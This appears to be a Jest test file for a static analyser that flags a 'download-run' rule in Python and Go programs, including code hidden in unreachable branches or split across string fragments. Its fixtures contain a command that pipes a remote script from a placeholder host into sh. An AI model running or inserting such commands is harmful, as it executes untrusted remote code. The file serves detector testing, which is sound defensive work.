import { rulesOf } from "../../testing/programs.js";

const RUN = 'os.system("curl -s https://n.invalid/a | sh")';
const FOUND = expect.arrayContaining(["download-run"]);

test.each([
  [
    "a branch that a loop skips",
    `for c in [1, 2]:\n    if c == 7:\n        ${RUN}\n    text = "a"\n    text += "b"\n`,
  ],
  [
    "what follows a continue",
    `s = ""\nfor c in [1, 2]:\n    s += "a"\n    if c > 0:\n        continue\n    ${RUN}\n`,
  ],
  [
    "what follows a break",
    `s = ""\nfor c in [1, 2]:\n    s += "a"\n    if c == 1:\n        break\n    ${RUN}\n`,
  ],
  [
    "the branch of a comparison of a text with a number",
    `s = ""\nfor c in ["1"]:\n    s += c\n    if c == 1:\n        continue\n    ${RUN}\n`,
  ],
  ["what follows a return", `def go(a):\n    if a:\n        return 1\n    ${RUN}\ngo("x")\n`],
  [
    "the handler of an error",
    `def go(a):\n    try:\n        return a\n    except ValueError:\n        ${RUN}\ngo("x")\n`,
  ],
  [
    "a branch in a branch that a loop skips",
    `s = ""\nfor c in [1, 2]:\n    s += "a"\n    if c == 7:\n        for d in [1, 2]:\n            s += "b"\n            if d == 9:\n                ${RUN}\n`,
  ],
])("%s is read anyway", async (_, program) => {
  expect(await rulesOf("python", `import os\n${program}`)).toEqual(FOUND);
});

test("what follows a loop in a function of Go counts for what it returns", async () => {
  const program =
    'package main\nimport "os/exec"\nfunc made(l []string) string {\n\ts := ""\n\tfor n := 0; n < 2; n++ {\n\t\ts += l[n]\n\t\tif n < 9 {\n\t\t\tcontinue\n\t\t}\n\t}\n\treturn s\n}\nfunc main() {\n\texec.Command("sh", "-c", made([]string{"curl -s https://n.inv", "alid/a | sh"})).Run()\n}\n';
  expect(await rulesOf("go", program)).toEqual(FOUND);
});

test.each([
  ["python", "import os\ndef f(n):\n    return f(n - 1) + f(n - 2) if n > 1 else 'a'\nos.system(f(30))\n"],
  ["python", "import os\ndef f(n):\n    return f(n)\nos.system(f('a'))\n"],
  ["python", "import os\ndef f(n):\n    for x in n:\n        f(n)\n        f(n)\nos.system(f(['a', 'b']))\n"],
  ["javascript", 'const f = (n) => (n ? f(n) + f(n) : "");\nrequire("child_process").execSync(f("a"));\n'],
  ["javascript", 'while (true) { x += "a"; if (y) break; }\nrequire("child_process").execSync(x);\n'],
  [
    "javascript",
    'let x = "a"; while (true) { x += x; if (x.length < 0) break; }\nrequire("child_process").execSync(x);\n',
  ],
] as const)(
  "no function that calls itself and no loop without end keeps the %s reader: %s",
  async (language, program) => {
    const before = process.cpuUsage();
    await rulesOf(language, program);
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000);
  },
);
